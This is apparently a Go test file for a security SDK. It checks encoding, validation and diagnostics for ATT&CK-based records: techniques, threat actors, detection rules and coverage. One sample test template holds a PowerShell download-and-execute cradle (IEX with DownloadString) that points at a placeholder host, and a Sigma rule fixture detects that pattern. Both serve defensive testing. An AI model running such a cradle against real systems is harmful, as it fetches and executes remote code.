package sdk_test

import (
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/aegis-sec/aegis/sdk"
	"github.com/aegis-sec/aegis/sdk/host"
)

// sampleRecords holds one valid record of every kind.
func sampleRecords() []sdk.Record {
	mod := time.Date(2025, 10, 28, 14, 0, 0, 0, time.UTC)
	score := 62.5
	return []sdk.Record{
		&sdk.Tactic{ExternalID: "TA0002", STIXID: "x-mitre-tactic--4ca45d45", Name: "Execution", Shortname: "execution", Domain: sdk.DomainEnterprise, Order: 3},
		&sdk.Technique{ExternalID: "T1059.001", Name: "PowerShell", ParentID: "T1059", Tactics: []string{"execution"},
			Platforms: []string{"Windows"}, DataSources: []string{"Command: Command Execution"}, Modified: mod, ReleaseVersion: "18.1"},
		&sdk.Mitigation{ExternalID: "M1038", Name: "Execution Prevention", Techniques: []sdk.MitigationLink{{TechniqueID: "T1059.001", Description: "Use application control"}}},
		&sdk.ThreatActor{ExternalID: "G0016", Name: "APT29", Aliases: []string{"Cozy Bear"}, Country: "RU",
			References: []sdk.Reference{{Source: "mitre-attack", URL: "https://attack.mitre.org/groups/G0016", ExternalID: "G0016"}},
			Techniques: []sdk.ActorTechnique{{TechniqueID: "T1059.001", Procedure: "used PowerShell"}}},
		&sdk.TestTemplate{ExternalID: "f7e6ec05-c19e-4a80-a7e7-241027992fdb", Name: "Mimikatz", TemplateType: sdk.TemplateAtomic,
			TechniqueIDs: []string{"T1059.001"}, Platforms: []string{"windows"},
			Executor:       sdk.Executor{Name: "powershell", Command: "IEX (New-Object Net.WebClient).DownloadString('#{url}')", ElevationRequired: true},
			InputArguments: []sdk.InputArgument{{Name: "url", Type: "url", Default: "https://example.test/x.ps1"}},
			Dependencies:   []sdk.Dependency{{Description: "needs network", PrereqCommand: "exit 0"}},
			Metadata:       map[string]any{"auto_generated_guid": "f7e6ec05"}},
		&sdk.DetectionRule{ExternalID: "3b6ab547-8ec2-4991-b9d2-2b06702a48d7", Title: "PowerShell Download", Format: sdk.RuleSigma,
			Level: "high", Status: "test", TechniqueIDs: []string{"T1059.001"}, LogSource: map[string]string{"product": "windows", "category": "ps_script"},
			Detection: map[string]any{"selection": map[string]any{"ScriptBlockText|contains": "DownloadString"}, "condition": "selection"},
			Related:   []sdk.RelatedRule{{ID: "abc", Type: "derived"}}, Date: time.Date(2023, 1, 2, 0, 0, 0, 0, time.UTC)},
		&sdk.DefensiveTechnique{ExternalID: "D3-AL", Name: "Application Lockdown", Tactic: "Harden",
			Mappings: []sdk.DefensiveMapping{{TechniqueID: "T1059.001", Relation: "may-counter", Via: "Executable Script"}}},
		&sdk.ComplianceFramework{ExternalID: "nist-800-53-rev5", Name: "NIST SP 800-53", Version: "5"},
		&sdk.ComplianceControl{FrameworkID: "nist-800-53-rev5", ExternalID: "AC-2(1)", Family: "Access Control", Title: "Automated Account Management", ParentID: "AC-2",
			Mappings: []sdk.ControlMapping{{TechniqueID: "T1078", MappingType: "protects"}}},
		&sdk.IntelItem{ExternalID: "https://blog.example.test/apt29", Title: "APT29 again", Published: mod, TechniqueIDs: []string{"T1059.001"}, GroupIDs: []string{"G0016"}},
		&sdk.Campaign{ExternalID: "C0024", Name: "SolarWinds Compromise", CampaignKind: sdk.CampaignAttack, ActorIDs: []string{"G0016"},
			TechniqueIDs: []string{"T1059.001"}, TemplateIDs: []string{"f7e6ec05-c19e-4a80-a7e7-241027992fdb"}},
		&sdk.TechniqueCoverage{TechniqueID: "T1059.001", Name: "PowerShell", Parent: "T1059", Tactics: []string{"execution"},
			Platforms: []string{"Windows"}, Status: sdk.CoverageCovered, Score: &score, Counts: sdk.TestCounts{Tests: 2, Validated: 1, Alerted: 1},
			Templates: 3, LastValidated: &mod, URL: "https://aegis.example.test/techniques/T1059.001",
			Change: &sdk.CoverageChange{Direction: sdk.ChangeImproved, BeforeStatus: sdk.CoverageNotTested, TestsChanged: 1}},
	}
}

func TestEncodeDecodeRoundTripEveryKind(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range sampleRecords() {
		kind, id, data, err := sdk.EncodeRecord(r)
		if err != nil {
			t.Fatalf("encode %T: %v", r, err)
		}
		if kind != r.Kind() || id != r.ID() {
			t.Errorf("encode %T: got kind %q id %q", r, kind, id)
		}
		got, err := sdk.DecodeRecord(kind, data)
		if err != nil {
			t.Fatalf("decode %s: %v", kind, err)
		}
		if !reflect.DeepEqual(got, r) {
			t.Errorf("%s round trip:\n got  %#v\n want %#v", kind, got, r)
		}
		seen[kind] = true
	}
	for _, k := range sdk.RecordKinds() {
		if !seen[k] {
			t.Errorf("record kind %s has no sample", k)
		}
	}
}

func TestRecordJSONIsSnakeCase(t *testing.T) {
	_, _, data, err := sdk.EncodeRecord(&sdk.Technique{ExternalID: "T1059", Name: "Command", RevokedBy: "T1000", Revoked: true, ReleaseVersion: "18.1"})
	if err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{`"external_id":"T1059"`, `"revoked_by":"T1000"`, `"release_version":"18.1"`} {
		if !strings.Contains(string(data), key) {
			t.Errorf("JSON %s lacks %s", data, key)
		}
	}
	if strings.Contains(string(data), "modified") {
		t.Errorf("zero time was encoded: %s", data)
	}
}

func TestComplianceControlIDIncludesFramework(t *testing.T) {
	c := &sdk.ComplianceControl{FrameworkID: "nist-800-53-rev5", ExternalID: "AC-2", Title: "Account Management"}
	if got := c.ID(); got != "nist-800-53-rev5:AC-2" {
		t.Errorf("ID() = %q", got)
	}
}

func TestDecodeUnknownKindNamesIt(t *testing.T) {
	_, err := sdk.DecodeRecord("sigma_rule", []byte(`{}`))
	if err == nil || !strings.Contains(err.Error(), `"sigma_rule"`) {
		t.Fatalf("err = %v, want it to name the kind", err)
	}
}

func TestDecodeMalformedJSON(t *testing.T) {
	for _, data := range []string{`{"external_id":`, `{"external_id":"T1059","name":"x"} {}`, `[]`} {
		_, err := sdk.DecodeRecord(sdk.KindTechnique, []byte(data))
		if err == nil || !strings.Contains(err.Error(), "technique") {
			t.Errorf("DecodeRecord(%s) = %v, want an error naming the kind", data, err)
		}
	}
}

func TestDecodeIgnoresUnknownFields(t *testing.T) {
	r, err := sdk.DecodeRecord(sdk.KindTechnique, []byte(`{"external_id":"T1059","name":"Command","added_in_sdk_1_9":true}`))
	if err != nil {
		t.Fatal(err)
	}
	if r.(*sdk.Technique).Name != "Command" {
		t.Errorf("decoded %#v", r)
	}
}

func TestValidateNamesFields(t *testing.T) {
	tooHigh := 100.5
	cases := []struct {
		rec   sdk.Record
		field string
		msg   string
	}{
		{&sdk.Technique{ExternalID: "T1059"}, "name", "required"},
		{&sdk.Technique{ExternalID: "T1059.001", Name: "PowerShell"}, "parent_id", "required for sub-technique"},
		{&sdk.Technique{ExternalID: "T1059.001", Name: "PowerShell", ParentID: "T1058"}, "parent_id", "does not match"},
		{&sdk.Technique{ExternalID: "T1059", Name: "Command", ParentID: "T1000"}, "parent_id", "must be empty"},
		{&sdk.Technique{ExternalID: "1059", Name: "x"}, "external_id", "not a valid id"},
		{&sdk.Technique{ExternalID: "T1059", Name: "x", RevokedBy: "T1000"}, "revoked", "must be true"},
		{&sdk.Technique{ExternalID: "T1059", Name: "x", Domains: []string{"pre-attack"}}, "domains[0]", "not one of"},
		{&sdk.Tactic{ExternalID: "TA0002", Name: "Execution", Shortname: "execution", Domain: "enterprise"}, "domain", "not one of"},
		{&sdk.Tactic{ExternalID: "TA0002", Name: "Execution", Domain: sdk.DomainEnterprise}, "shortname", "required"},
		{&sdk.TestTemplate{ExternalID: "x", Name: "y", TemplateType: "atomic", TechniqueIDs: []string{"T1059", "t1003"}}, "technique_ids[1]", "not a valid id"},
		{&sdk.TestTemplate{ExternalID: "x", Name: "y"}, "template_type", "required"},
		{&sdk.TestTemplate{ExternalID: "x", Name: "y", TemplateType: "custom", Executor: sdk.Executor{Command: "whoami"}}, "executor.name", "required"},
		{&sdk.DetectionRule{ExternalID: "r", Title: "t", Format: "sigma"}, "query", "needs a query"},
		{&sdk.DetectionRule{ExternalID: "r", Title: "t", Format: "sigma", Query: "q", Level: "severe"}, "level", "not one of"},
		{&sdk.DetectionRule{ExternalID: "r", Title: "t", Format: "splunk", Query: "q"}, "format", "not one of"},
		{&sdk.ThreatActor{ExternalID: "G0016", Name: "APT29", Techniques: []sdk.ActorTechnique{{}}}, "techniques[0].technique_id", "required"},
		{&sdk.ComplianceControl{ExternalID: "AC-2", Title: "Account Management"}, "framework_id", "required"},
		{&sdk.Campaign{ExternalID: "C0001", Name: "x"}, "campaign_kind", "required"},
		{&sdk.Mitigation{ExternalID: "M1036"}, "name", "required"},
		{&sdk.DefensiveTechnique{ExternalID: "D3-AL", Name: "x", Mappings: []sdk.DefensiveMapping{{TechniqueID: "T12"}}}, "mappings[0].technique_id", "not a valid id"},
		{&sdk.IntelItem{ExternalID: "x"}, "title", "required"},
		{&sdk.ComplianceFramework{Name: "x"}, "external_id", "required"},
		{&sdk.TechniqueCoverage{TechniqueID: "T1059", Status: "covered", Score: &tooHigh}, "score", "outside 0..100"},
		{&sdk.TechniqueCoverage{TechniqueID: "T1059", Status: "great"}, "status", "not one of"},
		{&sdk.TechniqueCoverage{TechniqueID: "T1059", Status: "covered", Tactics: []string{"Execution"}}, "tactics[0]", "not a tactic shortname"},
		{&sdk.TechniqueCoverage{TechniqueID: "T1059", Status: "covered", Change: &sdk.CoverageChange{Direction: "sideways"}}, "change.direction", "not one of"},
	}
	for _, tc := range cases {
		err := tc.rec.Validate()
		var ve *sdk.ValidationError
		if !errors.As(err, &ve) {
			t.Errorf("%s %q: Validate() = %v, want *ValidationError", tc.rec.Kind(), tc.rec.ID(), err)
			continue
		}
		found := false
		for _, p := range ve.Problems {
			if p.Field == tc.field && strings.Contains(p.Message, tc.msg) {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: got %v, want field %s with %q", tc.rec.Kind(), err, tc.field, tc.msg)
		}
		if !strings.Contains(err.Error(), tc.field+": ") {
			t.Errorf("error text %q does not name %s", err, tc.field)
		}
	}
}

// Revoked and deprecated ATT&CK objects often have neither tactics nor
// platforms, and must still validate: the core follows RevokedBy to move
// tests to the replacement. Live techniques may lack platforms too (ICS
// T0895 "Autorun Image" has none). Blank entries stay errors.
func TestTechniqueTacticsAndPlatformsOptional(t *testing.T) {
	valid := []*sdk.Technique{
		{ExternalID: "T1086", Name: "PowerShell", Revoked: true, RevokedBy: "T1059.001"},
		{ExternalID: "T1086", Name: "PowerShell", Revoked: true},
		{ExternalID: "T0850", Name: "Role Identification", Deprecated: true, Domains: []string{sdk.DomainICS}},
		{ExternalID: "T1064.001", Name: "Old sub-technique", ParentID: "T1064", Deprecated: true},
		{ExternalID: "T0895", Name: "Autorun Image", Tactics: []string{"execution"}, Domains: []string{sdk.DomainICS}},
	}
	for _, r := range valid {
		if err := r.Validate(); err != nil {
			t.Errorf("%s (revoked %v, deprecated %v): %v", r.ExternalID, r.Revoked, r.Deprecated, err)
		}
	}
	invalid := []struct {
		rec   *sdk.Technique
		field string
	}{
		{&sdk.Technique{ExternalID: "T1086", Name: "PowerShell", Revoked: true, Tactics: []string{""}}, "tactics[0]"},
		{&sdk.Technique{ExternalID: "T1059", Name: "Command", Tactics: []string{"execution"}, Platforms: []string{"Windows", " "}}, "platforms[1]"},
	}
	for _, tc := range invalid {
		err := tc.rec.Validate()
		if err == nil || !strings.Contains(err.Error(), tc.field+": empty value") {
			t.Errorf("%s: Validate() = %v, want %s: empty value", tc.rec.ExternalID, err, tc.field)
		}
	}
}

func TestSampleRecordsAreValid(t *testing.T) {
	for _, r := range sampleRecords() {
		if err := r.Validate(); err != nil {
			t.Errorf("%s: %v", r.Kind(), err)
		}
	}
}

func TestIncomingRecordDecodeChecksEnvelope(t *testing.T) {
	in := host.IncomingRecord{Kind: sdk.KindTechnique, ExternalID: "T1003", JSON: []byte(`{"external_id":"T1059","name":"Command"}`), File: "a.json", Line: 7}
	_, err := in.Decode()
	if err == nil || !strings.Contains(err.Error(), "a.json:7: technique") || !strings.Contains(err.Error(), `"T1059"`) {
		t.Fatalf("err = %v", err)
	}
	in.JSON = []byte(`{"external_id":"T1003"}`)
	_, err = in.Decode()
	var ve *sdk.ValidationError
	if !errors.As(err, &ve) || ve.Problems[0].Field != "name" {
		t.Fatalf("err = %v, want a validation error on name", err)
	}
}

func TestDiagnosticsFormatting(t *testing.T) {
	ds := sdk.Diagnostics{
		{Severity: sdk.SeverityWarning, Summary: "skipped row", File: "rules.csv", Line: 4, ExternalID: "R-9"},
		{Severity: sdk.SeverityError, Summary: "no such folder"},
		{Severity: sdk.SeverityError, Summary: "bad header", File: "templates.csv"},
	}
	if got, want := ds.Error(), "rules.csv:4: skipped row (R-9); no such folder; templates.csv: bad header"; got != want {
		t.Errorf("Error() = %q, want %q", got, want)
	}
	if !ds.HasError() || ds[:1].HasError() {
		t.Errorf("HasError wrong")
	}
	if n := len(ds.Errors()); n != 2 {
		t.Errorf("Errors() has %d", n)
	}
	b, err := json.Marshal(ds[0])
	if err != nil || !strings.Contains(string(b), `"severity":"warning"`) {
		t.Errorf("json = %s, %v", b, err)
	}
	var back sdk.Diagnostic
	if err := json.Unmarshal(b, &back); err != nil || back != ds[0] {
		t.Errorf("unmarshal = %+v, %v", back, err)
	}
	many := make(sdk.Diagnostics, 15)
	for i := range many {
		many[i] = sdk.Diagnostic{Severity: sdk.SeverityError, Summary: "x"}
	}
	if !strings.HasSuffix(many.Error(), "and 5 more") {
		t.Errorf("long Error() = %q", many.Error())
	}
}
